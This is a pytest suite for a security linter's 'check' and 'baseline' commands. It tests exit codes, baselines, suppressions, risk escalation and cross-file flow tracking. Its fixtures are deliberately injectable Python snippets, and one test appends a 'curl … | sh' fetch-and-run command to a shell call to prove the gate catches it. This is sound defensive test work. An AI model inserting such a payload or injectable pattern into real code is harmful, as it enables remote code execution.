"""``auditor check`` and ``auditor baseline``: the exit codes of the gate on clean, dirty,
baselined and broken trees, and the baseline file."""

from __future__ import annotations

import json
import re
import sys
from pathlib import Path

import pytest

from auditor.baseline import SCHEMA, BaselineError, load
from auditor.cli import main

CLEAN = 'import subprocess\n\n\ndef ok():\n    subprocess.run(["ls", "-l"])\n'


def _clean_tree(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = tmp_path / "clean"
    root.mkdir()
    (root / "app.py").write_text(CLEAN, "utf-8")
    monkeypatch.chdir(root)
    return root


def test_clean_tree_passes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    _clean_tree(tmp_path, monkeypatch)
    assert main(["check"]) == 0
    out = capsys.readouterr().out
    assert out == (
        "auditor check passed: 0 findings at or above high; 1 below high; 0 errors; "
        "1 file scanned\n"
    )
    # a constant argv command is low risk: --fail-on low catches it
    assert main(["check", "--fail-on", "low"]) == 1


def test_dirty_tree_fails_and_lists_only_findings_at_or_above_the_threshold(
    tree: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["check", "."]) == 1
    out = capsys.readouterr().out
    assert out.count("high/") == 4
    assert "medium/" not in out and "low/" not in out
    assert "exec(template)" not in out  # suppressed
    assert out.splitlines()[-1] == (
        "auditor check FAILED: 4 findings at or above high (4 high, 0 medium, 0 low); "
        "7 below high, 2 in the sandbox, 1 suppressed; 0 errors; 5 files scanned"
    )


def test_fail_on_medium_counts_medium_findings(
    tree: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["check", "scripts/monitoring"]) == 0  # medium and low only
    assert main(["check", "scripts/monitoring", "--fail-on", "medium"]) == 1
    assert "subprocess.Popen" in capsys.readouterr().out


def test_isolated_and_trusted_sites_do_not_fail_the_gate(tree: Path) -> None:
    assert main(["check", "src", "scripts/canonical", "--fail-on", "medium"]) == 0
    # isolated sites are the fix: not even --fail-on low fails on them
    assert main(["check", "src", "--fail-on", "low"]) == 0
    # a trusted site is low risk: only --fail-on low reports it
    assert main(["check", "scripts/canonical", "--fail-on", "low"]) == 1


def test_baseline_adopts_a_legacy_tree_then_fails_on_new_findings(
    tree: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["baseline", "-o", "base.json"]) == 0
    data = json.loads((tree / "base.json").read_text("utf-8"))
    assert data["schema"] == SCHEMA
    assert data["tool"]["name"] == "auditor"
    assert len(data["findings"]) == 13  # the suppressed one is not recorded
    assert data["findings"][0] == {
        "fingerprint": data["findings"][0]["fingerprint"],
        "rule": "AUD101",
        "risk": "low",  # trusted by the policy's path rule
        "origin": data["findings"][0]["origin"],
        "path": "scripts/canonical/cleanup.py",
        "line": 5,
    }
    capsys.readouterr()
    assert main(["check", "--baseline", "base.json"]) == 0
    assert "13 in the baseline" in capsys.readouterr().out

    # moving code down does not make old findings new: fingerprints survive line moves
    main_py = tree / "web" / "backend" / "main.py"
    main_py.write_text('"""Docstring."""\n\n\n' + main_py.read_text("utf-8"), "utf-8")
    assert main(["check", "--baseline", "base.json"]) == 0

    # a new dynamic call is caught, and only it is listed
    with main_py.open("a", encoding="utf-8") as handle:
        handle.write("\n\ndef run_user(cmd):\n    os.system(cmd)\n")
    capsys.readouterr()
    assert main(["check", "--baseline", "base.json"]) == 1
    out = capsys.readouterr().out
    assert out.splitlines()[0].startswith("web/backend/main.py:36:5: AUD101 high/isolate")
    assert out.count("high/") == 1
    assert "1 new finding at or above high (1 high, 0 medium, 0 low); 13 in the baseline" in out


def test_baseline_from_the_policy(tree: Path) -> None:
    assert main(["baseline"]) == 0
    assert (tree / ".auditor-baseline.json").is_file()
    pyproject = tree / "pyproject.toml"
    pyproject.write_text(
        pyproject.read_text("utf-8") + 'baseline = ".auditor-baseline.json"\n', "utf-8"
    )
    assert main(["check"]) == 0
    assert main(["check", "--no-baseline"]) == 1


def test_fail_on_from_the_policy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = _clean_tree(tmp_path, monkeypatch)
    (root / "pyproject.toml").write_text('[tool.auditor]\nfail_on = "low"\n', "utf-8")
    assert main(["check"]) == 1
    assert main(["check", "--fail-on", "high"]) == 0  # the option wins


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ('fail_on = "severe"', "'fail_on' must be critical, high, medium or low"),
        ("fail_on = 3", "'fail_on' must be critical, high, medium or low"),
        ("baseline = 1", "'baseline' must be a file name (a string)"),
        ('baseline = ""', "'baseline' must be a file name (a string)"),
    ],
)
def test_bad_policy_keys_are_one_line_errors(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    line: str,
    message: str,
) -> None:
    root = _clean_tree(tmp_path, monkeypatch)
    (root / "pyproject.toml").write_text(f"[tool.auditor]\n{line}\n", "utf-8")
    assert main(["check"]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1
    assert "pyproject.toml [tool.auditor]" in err and message in err


def test_broken_tree_exits_2_unless_errors_are_allowed(
    tree: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tree / "broken.py").write_text("import os\ndef broken(:\n    os.system(c)\n", "utf-8")
    assert main(["check", "src"]) == 0
    assert main(["check", "src", "broken.py"]) == 2
    out = capsys.readouterr().out
    assert "broken.py:2: error: syntax error" in out
    assert "FAILED: some files could not be analysed" in out
    assert main(["check", "src", "broken.py", "--allow-errors"]) == 0
    assert main(["check", "--allow-errors"]) == 1  # the findings still fail it
    assert main(["baseline"]) == 2
    assert not (tree / ".auditor-baseline.json").exists()
    assert main(["baseline", "--allow-errors"]) == 0


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "baseline file not found"),
        ("{not json", "invalid JSON"),
        ("[]", "a baseline must be a JSON object"),
        ('{"schema": "auditor/findings/v1"}', "'schema' must be 'auditor/baseline/v1'"),
        ('{"schema": "auditor/baseline/v1", "findings": {}}', "'findings' must be a list"),
        (
            '{"schema": "auditor/baseline/v1", "findings": [{"rule": "AUD101"}]}',
            "'findings[0].fingerprint' must be a non-empty string",
        ),
    ],
)
def test_bad_baseline_is_a_one_line_usage_error(
    tree: Path, capsys: pytest.CaptureFixture[str], content: str | None, message: str
) -> None:
    path = tree / "base.json"
    if content is not None:
        path.write_text(content, "utf-8")
    with pytest.raises(BaselineError, match=re.escape(message)):
        load(path)
    assert main(["check", "--baseline", "base.json"]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1
    assert err.startswith("Error: base.json") and message in err


def test_check_formats_show_only_new_findings(
    tree: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["baseline", "-o", "base.json", "web"]) == 0
    capsys.readouterr()
    assert main(["check", "--baseline", "base.json", "--format", "json"]) == 1
    doc = json.loads(capsys.readouterr().out)
    paths = {f["path"] for f in doc["findings"]}
    assert paths == {
        "scripts/canonical/cleanup.py",
        "scripts/indexing/vectorize.py",
        "scripts/monitoring/monitor.py",
        "src/engine/isolated.py",
    }
    assert main(["check", "--baseline", "base.json", "--format", "github"]) == 1
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 8 and all(line.startswith("::") for line in lines)
    assert main(["check", "--baseline", "base.json", "--format", "sarif", "-o", "c.sarif"]) == 1
    assert len(json.loads((tree / "c.sarif").read_text("utf-8"))["runs"][0]["results"]) == 8


def test_check_markdown_is_the_document_of_the_new_findings(
    tree: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["baseline", "-o", "base.json", "scripts", "src"]) == 0
    capsys.readouterr()
    assert main(["check", "--baseline", "base.json", "--format", "markdown"]) == 1
    out = capsys.readouterr().out
    assert out.startswith("# 🔍 Isolation audit")
    assert "`web/backend/main.py`" in out
    assert "`scripts/indexing/vectorize.py`" not in out


def test_baseline_to_stdout(tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["baseline", "-o", "-", "web"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert [e["line"] for e in data["findings"]] == [9, 13, 17, 21, 25]
    assert not (tree / "-").exists()


def test_usage_errors_exit_2(tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["check", "--fail-on", "severe"]) == 2
    assert "Invalid value for '--fail-on'" in capsys.readouterr().err
    assert main(["check", "--format", "xml"]) == 2
    capsys.readouterr()
    assert main(["check", "no-such-file.py"]) == 2
    assert capsys.readouterr().err == "Error: no-such-file.py: no such file or directory\n"


def test_check_writes_sarif_beside_the_annotations_in_one_scan(
    tree: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["baseline", "-o", "base.json", "web"]) == 0
    capsys.readouterr()
    argv = ["check", "--baseline", "base.json", "--format", "github", "--sarif", "out.sarif"]
    assert main(argv) == 1
    annotations = capsys.readouterr().out.splitlines()
    results = json.loads((tree / "out.sarif").read_text("utf-8"))["runs"][0]["results"]
    # the same new findings in both: the baselined web/ ones in neither
    assert len(annotations) == len(results) == 8
    assert not any("web/" in r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                   for r in results)  # fmt: skip
    assert main(["check", "--sarif", "clean.sarif", "scripts/monitoring"]) == 0
    assert (tree / "clean.sarif").exists()


def test_check_runs_the_other_engines_and_an_engine_failure_exits_2(
    tree: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["check", "--engines", "libcst,bandit", "--format", "json", "web"]) == 1
    doc = json.loads(capsys.readouterr().out)
    assert doc["engines"] == ["libcst", "bandit"]
    assert any(f["also_flagged_by"] for f in doc["findings"])
    assert main(["check", "--engines", "nope"]) == 2
    assert "unknown engine 'nope'" in capsys.readouterr().err
    for name in ("bandit", "bandit.core", "bandit.core.manager", "bandit.core.config"):
        monkeypatch.setitem(sys.modules, name, None)  # as if bandit were not installed
    assert main(["check", "--engines", "bandit", "scripts/monitoring"]) == 2
    out = capsys.readouterr().out
    assert "engine bandit: error: bandit is not installed" in out
    assert out.splitlines()[-1].startswith("auditor check FAILED: an engine could not run:")
    assert main(["check", "--engines", "bandit", "--allow-errors", "scripts/monitoring"]) == 0


def _escalating_tree(root: Path, suppression: str = "") -> None:
    """A wrapper run only with strings the program builds, accepted as it is (AUD101); a new
    Flask route then passes request data to it (AUD001)."""
    (root / "runner.py").write_text(
        "import subprocess\n\n\ndef run_cmd(cmd):\n"
        f"    return subprocess.run(cmd, shell=True).returncode{suppression}\n",
        "utf-8",
    )
    (root / "cron.py").write_text(
        "import time\n\nfrom runner import run_cmd\n\n\ndef tick():\n"
        "    run_cmd('uptime --since ' + str(time.time()))\n",
        "utf-8",
    )


_ROUTE = (
    "from flask import Flask, request\n\nfrom runner import run_cmd\n\napp = Flask(__name__)\n\n\n"
    '@app.get("/")\ndef index():\n    return str(run_cmd(request.args["c"]))\n'
)


def test_a_baselined_finding_whose_risk_rose_fails_the_gate(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    _escalating_tree(tmp_path)
    assert main(["baseline", "--no-cache", "-o", "base.json"]) == 0
    entries = json.loads((tmp_path / "base.json").read_text("utf-8"))["findings"]
    assert [(e["rule"], e["risk"]) for e in entries] == [("AUD101", "high")]
    assert main(["check", "--no-cache", "--baseline", "base.json", "--fail-on", "critical"]) == 0
    capsys.readouterr()
    (tmp_path / "app.py").write_text(_ROUTE, "utf-8")
    # the call did not change, so neither did its fingerprint; its risk did
    assert main(["check", "--no-cache", "--baseline", "base.json", "--fail-on", "critical"]) == 1
    out = capsys.readouterr().out
    assert "runner.py:5:12: AUD001 critical" in out
    assert "escalated since the baseline: AUD101 high -> AUD001 critical" in out
    # a baseline written before entries had a risk: escalation to a critical rule still shows
    for entry in entries:
        del entry["risk"]
    (tmp_path / "old.json").write_text(json.dumps({"schema": SCHEMA, "findings": entries}), "utf-8")
    assert main(["check", "--no-cache", "--baseline", "old.json", "--fail-on", "critical"]) == 1
    assert "escalated since the baseline: AUD101 -> AUD001 critical" in capsys.readouterr().out
    # and the same risk as accepted stays covered
    assert main(["check", "--no-cache", "--baseline", "base.json", "--fail-on", "high"]) == 1
    (tmp_path / "app.py").unlink()
    assert main(["check", "--no-cache", "--baseline", "base.json", "--fail-on", "low"]) == 0


@pytest.mark.parametrize(
    ("names", "suppressed"),
    [
        ("AUD101", False),
        ("run_cmd, subprocess.run", False),
        ("AUD001", True),
        ("AUD101,AUD001", True),
    ],
)
def test_a_suppression_accepts_the_risk_it_named(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    names: str,
    suppressed: bool,
) -> None:
    monkeypatch.chdir(tmp_path)
    _escalating_tree(tmp_path, f"  # auditor: ignore[{names}] only cron strings reach it")
    (tmp_path / "app.py").write_text(_ROUTE, "utf-8")
    assert main(["scan", "--no-cache", "--format", "json"]) == 0
    [finding] = json.loads(capsys.readouterr().out)["findings"]
    assert (finding["rule"], finding["suppressed"]) == ("AUD001", suppressed)
    if not suppressed:
        assert (
            "its suppression comment accepted AUD101 high, not AUD001 critical"
            in (finding["message"])
        )
    assert main(["check", "--no-cache", "--fail-on", "critical"]) == (0 if suppressed else 1)


def test_a_baseline_entry_with_a_bad_risk_is_a_one_line_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "base.json"
    path.write_text(
        json.dumps({"schema": SCHEMA, "findings": [{"fingerprint": "ab", "risk": "dire"}]}),
        "utf-8",
    )
    with pytest.raises(BaselineError, match=r"'findings\[0\]\.risk' must be one of low, medium"):
        load(path)


def test_check_changed_follows_a_changed_file_into_the_unchanged_ones(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "pyproject.toml").write_text("[tool.auditor]\n", "utf-8")
    _escalating_tree(tmp_path)
    (tmp_path / "app.py").write_text(_ROUTE, "utf-8")
    gate = ["check", "--no-cache", "--fail-on", "critical"]
    # the changed file alone: its call of run_cmd is not a finding, and runner.py is not read
    assert main([*gate, "app.py"]) == 0
    capsys.readouterr()
    assert main([*gate, "--changed", "app.py"]) == 1
    out = capsys.readouterr().out
    assert out.startswith("runner.py:5:12: AUD001 critical/isolate")
    assert "from app.py:10: the HTTP request (Flask)" in out
    # a changed file that no risky flow goes through: nothing of the rest of the project
    assert main([*gate, "--changed", "cron.py"]) == 0
    assert "0 findings at or above critical" in capsys.readouterr().out


def test_a_baselined_finding_whose_payload_origin_became_more_dangerous_fails_the_gate(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The call's text and its risk did not change, but what reaches it did: a dated tar
    command built from a parameter, accepted, now any command read from a file."""
    monkeypatch.chdir(tmp_path)
    backup = (
        "import subprocess\n\n\ndef backup(stamp):\n"
        '    subprocess.run(f"tar czf /backup/app-{stamp}.tgz /srv/app", shell=True)\n'
    )
    (tmp_path / "jobs.py").write_text(backup, "utf-8")
    assert main(["baseline", "--no-cache", "-o", "base.json"]) == 0
    [entry] = json.loads((tmp_path / "base.json").read_text("utf-8"))["findings"]
    assert (entry["rule"], entry["risk"], entry["origin"]) == ("AUD101", "high", "parameter")
    gate = ["check", "--no-cache", "--baseline", "base.json", "--fail-on", "high"]
    assert main(gate) == 0
    capsys.readouterr()
    (tmp_path / "jobs.py").write_text(
        backup + "\n\ndef nightly():\n    backup(open('/tmp/backup-job.txt').read())\n", "utf-8"
    )
    assert main(gate) == 1
    out = capsys.readouterr().out
    assert "jobs.py:5:5: AUD101 high" in out
    assert "its payload came from parameter, now from file" in out
    # an entry written before origins were recorded accepts any origin (as it did)
    del entry["origin"]
    (tmp_path / "old.json").write_text(json.dumps({"schema": SCHEMA, "findings": [entry]}), "utf-8")
    assert main(["check", "--no-cache", "--baseline", "old.json", "--fail-on", "high"]) == 0


def test_a_baseline_entry_with_an_unknown_origin_is_a_one_line_error(tmp_path: Path) -> None:
    path = tmp_path / "base.json"
    path.write_text(
        json.dumps({"schema": SCHEMA, "findings": [{"fingerprint": "ab", "origin": "moon"}]}),
        "utf-8",
    )
    with pytest.raises(BaselineError, match=r"'findings\[0\]\.origin' must be null or one of"):
        load(path)


def test_text_appended_past_the_shown_snippet_is_a_new_call_for_the_baseline(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The snippet shown is cut at 200 characters; the fingerprint is of the whole call."""
    monkeypatch.chdir(tmp_path)
    long_command = "rsync -a " + " ".join(f"/srv/data/part{i}" for i in range(30))
    call = 'subprocess.run(f"{prefix} ' + long_command + '{suffix}", shell=True)\n'
    code = "import subprocess\n\n\ndef sync(prefix, suffix=''):\n    " + call
    (tmp_path / "sync.py").write_text(code, "utf-8")
    assert main(["baseline", "--no-cache", "-o", "base.json"]) == 0
    gate = ["check", "--no-cache", "--baseline", "base.json", "--fail-on", "high"]
    assert main(gate) == 0
    capsys.readouterr()
    (tmp_path / "sync.py").write_text(
        code.replace("{suffix}", "{suffix}; curl -s http://203.0.113.7/x | sh"), "utf-8"
    )
    assert main(gate) == 1
    assert "sync.py:5:5: AUD101 high" in capsys.readouterr().out


_CONVERT = (
    "import subprocess\nimport sys\n\n\ndef main():\n"
    '    subprocess.run("convert " + sys.argv[1] + " out.png", shell=True)\n'
)


@pytest.mark.parametrize(
    "order", [("admin/restart.py", "app/cli.py"), ("app/cli.py", "admin/restart.py")]
)
def test_check_changed_judges_each_file_by_its_own_policy(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    order: tuple[str, str],
) -> None:
    """A sub-project's policy (admin/pyproject.toml: trusted_paths = ["**"]) governs its
    own files only: app/cli.py (sys.argv into a shell: AUD101 high, user-input) is judged
    by the root policy whatever the order of the names, as ``check app/cli.py`` judges it."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "pyproject.toml").write_text("[tool.auditor]\n", "utf-8")
    (tmp_path / "admin").mkdir()
    (tmp_path / "admin" / "pyproject.toml").write_text(
        '[tool.auditor]\ntrusted_paths = ["**"]\nfail_on = "low"\n', "utf-8"
    )
    (tmp_path / "admin" / "restart.py").write_text(_CONVERT, "utf-8")
    (tmp_path / "app").mkdir()
    (tmp_path / "app" / "cli.py").write_text(_CONVERT, "utf-8")
    assert main(["check", "--no-cache", "app/cli.py"]) == 1
    capsys.readouterr()
    assert main(["check", "--no-cache", "--changed", *order]) == 1
    out = capsys.readouterr().out
    assert "app/cli.py:6:5: AUD101 high/isolate" in out
    # admin/restart.py is trusted by its own policy (low), and its fail_on (low) gates it
    assert "admin/restart.py:6:5: AUD101 low/" in out
    assert "at or above the fail_on of each file's policy (high, low)" in out
    # the admin file alone: its own policy, as before
    assert main(["check", "--no-cache", "--changed", "admin/restart.py", "--format", "json"]) == 1
    risks = {(f["path"], f["risk"]) for f in json.loads(capsys.readouterr().out)["findings"]}
    assert risks == {("admin/restart.py", "low")}


def test_check_changed_sees_a_changed_file_that_writes_a_constant_elsewhere(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The staged settings.py sets tasks.HEALTH_CMD from sys.argv: tasks.py's constant
    shell command is no constant (AUD101 high, origin user-input: what settings.py assigns),
    and the finding's flow names settings.py, so that ``--changed settings.py`` (the
    pre-commit hook) fails too."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "pyproject.toml").write_text("[tool.auditor]\n", "utf-8")
    (tmp_path / "tasks.py").write_text(
        'import subprocess\n\nHEALTH_CMD = "uptime"\n\n\ndef health():\n'
        "    return subprocess.run(HEALTH_CMD, shell=True).returncode\n",
        "utf-8",
    )
    (tmp_path / "settings.py").write_text(
        "import sys\n\nimport tasks\n\nif len(sys.argv) > 1:\n    tasks.HEALTH_CMD = sys.argv[1]\n",
        "utf-8",
    )
    assert main(["check", "--no-cache", "--changed", "settings.py"]) == 1
    out = capsys.readouterr().out
    assert out.startswith("tasks.py:7:12: AUD101 high/isolate")
    assert "(settings.py assigns tasks.HEALTH_CMD at run time)" in out
    assert "the payload comes from user input (user-input)" in out
    assert "from settings.py:6: the command line: sys.argv" in out


def test_check_changed_sees_a_changed_file_that_patches_the_sandbox(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The staged compat.py replaces ``sandbox.run`` with ``subprocess.run``: jobs.py's
    sandboxed call of the command line runs on the host (AUD101 high, not isolated), and
    its flow names compat.py, so that ``--changed compat.py`` fails; a test file doing the
    same (``tests/conftest.py``) changes nothing."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "pyproject.toml").write_text("[tool.auditor]\n", "utf-8")
    (tmp_path / "jobs.py").write_text(
        "import sys\n\nfrom auditor import sandbox\n\n\ndef go():\n"
        "    return sandbox.run(sys.argv[1], shell=True)\n",
        "utf-8",
    )
    (tmp_path / "tests").mkdir()
    (tmp_path / "tests" / "conftest.py").write_text(
        "from auditor import sandbox\n\nsandbox.run = print\n", "utf-8"
    )
    assert main(["check", "--no-cache", "--changed", "tests/conftest.py"]) == 0
    capsys.readouterr()
    (tmp_path / "compat.py").write_text(
        "import subprocess\n\nimport auditor.sandbox as sb\n\nsb.run = subprocess.run\n",
        "utf-8",
    )
    assert main(["check", "--no-cache", "--changed", "compat.py"]) == 1
    out = capsys.readouterr().out
    # the write itself too: every call of sb.run now runs subprocess.run (auditor.scan.stored)
    assert out.startswith("compat.py:5:1: AUD102 high/isolate")
    assert "(stored in sb.run: a call through it runs the sink" in out
    assert "\njobs.py:7:12: AUD101 high/isolate" in out
    assert "not counted as isolated: compat.py:5 replaces `auditor.sandbox.run`" in out


def test_check_changed_sees_a_settings_loader_that_writes_any_global(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The staged loader.py sets every global of settings.py that its JSON names: the
    constant command jobs.py imports from settings.py is no constant (AUD101 high), and
    the finding's flow names loader.py, so that ``--changed loader.py`` fails."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "pyproject.toml").write_text("[tool.auditor]\n", "utf-8")
    (tmp_path / "settings.py").write_text('HEALTH_CMD = "uptime"\n', "utf-8")
    (tmp_path / "jobs.py").write_text(
        "import subprocess\n\nfrom settings import HEALTH_CMD\n\n\ndef health():\n"
        "    return subprocess.run(HEALTH_CMD, shell=True).returncode\n",
        "utf-8",
    )
    assert main(["check", "--no-cache", "--fail-on", "medium"]) == 1  # AUD201: a constant
    assert "AUD201" in capsys.readouterr().out
    (tmp_path / "loader.py").write_text(
        "import json\n\nimport settings\n\n\ndef load(path):\n"
        "    for key, value in json.load(open(path)).items():\n"
        "        setattr(settings, key, value)\n",
        "utf-8",
    )
    assert main(["check", "--no-cache", "--changed", "loader.py"]) == 1
    out = capsys.readouterr().out
    assert out.startswith("jobs.py:7:12: AUD101 high/isolate")
    assert "loader.py may assign any global of settings at run time" in out


def test_check_changed_judges_an_importer_of_a_changed_constant(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The staged consts.py makes the command runner.py imports from it an environment
    variable: runner.py's site is a program chosen by the environment (AUD102 high, origin
    environment, its flow from consts.py), so ``--changed consts.py`` fails as ``check .``
    does. Before the change it was a constant command (below medium's gate: low)."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "pyproject.toml").write_text('[tool.auditor]\nfail_on = "medium"\n', "utf-8")
    (tmp_path / "consts.py").write_text('CMD = "uptime"\n', "utf-8")
    (tmp_path / "runner.py").write_text(
        "import subprocess\nfrom consts import CMD\n\ndef go():\n    subprocess.run([CMD])\n",
        "utf-8",
    )
    assert main(["check", "--no-cache", "--changed", "consts.py"]) == 0
    capsys.readouterr()
    (tmp_path / "consts.py").write_text(
        'import os\nCMD = os.environ.get("MONITOR_CMD", "uptime")\n', "utf-8"
    )
    assert main(["check", "--no-cache", "--changed", "consts.py", "--format", "json"]) == 1
    found = json.loads(capsys.readouterr().out)["findings"]
    assert [(f["path"], f["rule"], f["risk"], f["origin"]) for f in found] == [
        ("runner.py", "AUD102", "high", "environment")
    ]
    assert [(s["path"], s["line"], s["kind"]) for s in found[0]["flow"]] == [
        ("consts.py", 2, "source"),
        ("runner.py", 5, "reaches"),
    ]
    assert main(["check", "--no-cache", "."]) == 1


def test_check_changed_judges_the_callers_of_a_changed_function(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A finding whose function calls a function imported from the changed file (or reads
    a name imported from it, through a helper of its own file too) depends on it: judged
    with it. One whose function reads nothing of it is not."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "pyproject.toml").write_text("[tool.auditor]\n", "utf-8")
    (tmp_path / "helpers.py").write_text(
        'import shutil\n\ndef get_cmd():\n    return shutil.which("uptime")\n', "utf-8"
    )
    (tmp_path / "runner.py").write_text(
        "import os, subprocess\n"
        "import helpers\n\n"
        "def cmd():\n    return helpers.get_cmd()\n\n"
        "def go():\n    subprocess.run([cmd()])\n\n"
        "def other(x):\n    os.system(x)\n",
        "utf-8",
    )
    assert main(["check", "--no-cache", "--changed", "helpers.py", "--format", "json"]) == 1
    found = json.loads(capsys.readouterr().out)["findings"]
    assert [(f["path"], f["line"], f["rule"], f["risk"]) for f in found] == [
        ("runner.py", 8, "AUD102", "high")
    ]
    # a module that is not imported: nothing of runner.py
    (tmp_path / "unrelated.py").write_text("X = 1\n", "utf-8")
    assert main(["check", "--no-cache", "--changed", "unrelated.py"]) == 0


def test_check_says_which_folders_it_skipped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Outside git (or untracked), build output and virtual environments are skipped: the
    summary says so, and a Python script without a suffix is scanned."""
    root = _clean_tree(tmp_path, monkeypatch)
    (root / "build").mkdir()
    (root / "build" / "gen.py").write_text("import os\nos.system(input())\n", "utf-8")
    (root / "bin").mkdir()
    (root / "bin" / "deploy").write_text(
        "#!/usr/bin/env python3\nimport subprocess, sys\n"
        'subprocess.run("rsync " + sys.argv[1], shell=True)\n',
        "utf-8",
    )
    assert main(["check", "--no-cache"]) == 1
    out = capsys.readouterr().out
    assert out.startswith("bin/deploy:3:1: AUD101 high/isolate")
    assert out.endswith(
        "; 2 files scanned; 1 folder skipped by default (build/: name one to scan it)\n"
    )
    # the GitHub Action's format (annotations only) says it as a notice
    assert main(["check", "--no-cache", "--format", "github"]) == 1
    out = capsys.readouterr().out.splitlines()
    notices = [n for n in out if n.startswith("::notice title=auditor")]
    assert notices == [
        "::notice title=auditor: folders not scanned::1 folder skipped by default "
        "(build/: name one to scan it)"
    ]


@pytest.mark.parametrize(
    ("registering", "changed"),
    [
        (
            "from django.urls import path\nfrom . import views\n"
            'urlpatterns = [path("thumb/<name>/", views.thumb)]\n',
            "shop/urls.py",
        ),
        (
            "from flask import Flask\nfrom . import views\napp = Flask(__name__)\n"
            'app.add_url_rule("/thumb/<name>", "thumb", views.thumb)\n',
            "shop/web.py",
        ),
    ],
)
def test_check_changed_judges_a_view_that_a_changed_file_registers(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    registering: str,
    changed: str,
) -> None:
    """The unchanged view is critical because the changed file registers it as a route:
    its flow names the registration, and check --changed of that file judges it."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "pyproject.toml").write_text("[tool.auditor]\n", "utf-8")
    (tmp_path / "shop").mkdir()
    (tmp_path / "shop" / "__init__.py").write_text("", "utf-8")
    (tmp_path / "shop" / "views.py").write_text(
        "import subprocess\n\n\ndef thumb(request, name):\n"
        '    subprocess.run("convert " + name + " out.png", shell=True)\n',
        "utf-8",
    )
    (tmp_path / changed).write_text(registering, "utf-8")
    gate = ["check", "--no-cache", "--fail-on", "critical", "--format", "json"]
    assert main([*gate, "--changed", changed]) == 1
    [found] = json.loads(capsys.readouterr().out)["findings"]
    assert (found["path"], found["line"], found["risk"]) == ("shop/views.py", 5, "critical")
    first = found["flow"][0]
    assert (first["path"], first["kind"], first["subject"]) == (changed, "registered", "thumb")
    assert main([*gate, "--changed", "shop/__init__.py"]) == 0


def test_check_changed_of_the_policy_file_judges_every_finding_it_governs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "pyproject.toml").write_text('[tool.auditor]\nfail_on = "high"\n', "utf-8")
    (tmp_path / "jobs.py").write_text(
        "import subprocess\n\n\ndef backup(stamp):\n"
        '    subprocess.run(f"tar czf /backup/app-{stamp}.tgz /srv/app", shell=True)\n',
        "utf-8",
    )
    assert main(["check", "--no-cache", "--changed", "pyproject.toml"]) == 1
    assert "jobs.py:5:5: AUD101 high" in capsys.readouterr().out
